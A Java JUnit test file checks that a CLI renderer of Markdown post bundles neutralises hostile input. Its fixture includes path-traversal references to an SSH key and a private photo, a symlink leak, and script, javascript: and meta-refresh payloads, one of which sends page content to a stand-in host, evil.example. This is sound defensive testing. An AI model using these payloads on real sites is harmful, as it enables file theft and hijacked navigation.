package io.recapstudio.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import javax.imageio.ImageIO;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * {@code recap render} and {@code recap check} on a post from someone else's repository that points at the files
 * beside its bundle, links out of it and carries script: the document holds none of those bytes and cannot run or
 * navigate; check names each attempt.
 */
class HostilePostCommandsTest {

    private static final String SECRET = "-----BEGIN OPENSSH PRIVATE KEY-----\nNOT-A-REAL-KEY-42\n";

    @TempDir
    Path dir;

    private Path bundle;
    private byte[] privatePhoto;
    private final StringWriter out = new StringWriter();
    private final StringWriter err = new StringWriter();

    @BeforeEach
    void hostileBundle() throws IOException {
        bundle = Files.createDirectories(dir.resolve("their-post"));
        Files.createDirectories(dir.resolve(".ssh"));
        Files.writeString(dir.resolve(".ssh/id_rsa"), SECRET);
        ByteArrayOutputStream photo = new ByteArrayOutputStream();
        ImageIO.write(new BufferedImage(9, 7, BufferedImage.TYPE_INT_RGB), "png", photo);
        privatePhoto = photo.toByteArray();
        Files.write(dir.resolve("private.png"), privatePhoto);
        Files.createSymbolicLink(bundle.resolve("leak.png"), dir.resolve("private.png"));
        Files.writeString(bundle.resolve("index.md"), """
                ---
                title: "Recap <script>location='http://evil.example/'</script>"
                description: "<meta http-equiv=\\"refresh\\" content=\\"0;url=http://evil.example/\\">Lead"
                ---

                ![key](../.ssh/id_rsa)

                ![photo](%2e%2e/private.png) ![linked](leak.png)

                <img src="..\\private.png"> <img srcset="x.png 1x, ../private.png 2x">

                {{< figure src="../private.png" >}}

                <meta http-equiv="refresh" content="0;url=http://evil.example/">
                <script>location = 'http://evil.example/?' + document.body.innerHTML</script>
                <a href="javascript:location='http://evil.example/'">click</a>
                """);
    }

    private int run(String... args) {
        return RecapCommand.run(new PrintWriter(out, true), new PrintWriter(err, true), args);
    }

    @Test
    void renderWritesADocumentWithoutTheirBytesThatCannotRunOrNavigate() throws IOException {
        Path html = dir.resolve("out.html");
        assertThat(run("render", bundle.toString(), "-o", html.toString())).isZero(); // warnings only
        String document = Files.readString(html);
        assertThat(document).doesNotContain("NOT-A-REAL-KEY")
                .doesNotContain(Base64.getEncoder().encodeToString(SECRET.getBytes(StandardCharsets.UTF_8)))
                .doesNotContain(Base64.getEncoder().encodeToString(privatePhoto));
        Document page = Jsoup.parse(document);
        assertThat(page.select("script, base, iframe, object, embed, form")).isEmpty();
        assertThat(page.select("meta[http-equiv]")).hasSize(1);
        assertThat(page.select("meta[http-equiv]").attr("http-equiv")).isEqualTo("Content-Security-Policy");
        assertThat(page.select("meta[http-equiv]").attr("content")).contains("default-src 'none'")
                .contains("script-src 'none'").contains("base-uri 'none'").contains("form-action 'none'");
        assertThat(page.head().child(1).attr("http-equiv")).as("the policy comes first").isEqualTo(
                "Content-Security-Policy");
        assertThat(page.select("a").attr("href")).isEmpty();
        assertThat(page.select("h1").text()).isEqualTo("Recap <script>location='http://evil.example/'</script>");
        assertThat(err.toString()).contains("[path-outside-bundle]").contains("index.md:6:8: info:")
                .contains("[resource-link-outside]");
    }

    @Test
    void checkNamesEveryReadOutOfTheBundleAndTheLinkOut() {
        assertThat(run("check", bundle.toString())).isEqualTo(0);
        String report = out.toString();
        assertThat(report).contains("index.md:6:8: info: the image \"../.ssh/id_rsa\" climbs out of the bundle")
                .contains("[resource-link-outside]").contains("leak.png is a symbolic link to");
        assertThat(report.lines().filter(line -> line.endsWith("[path-outside-bundle]"))).hasSize(6);
    }
}
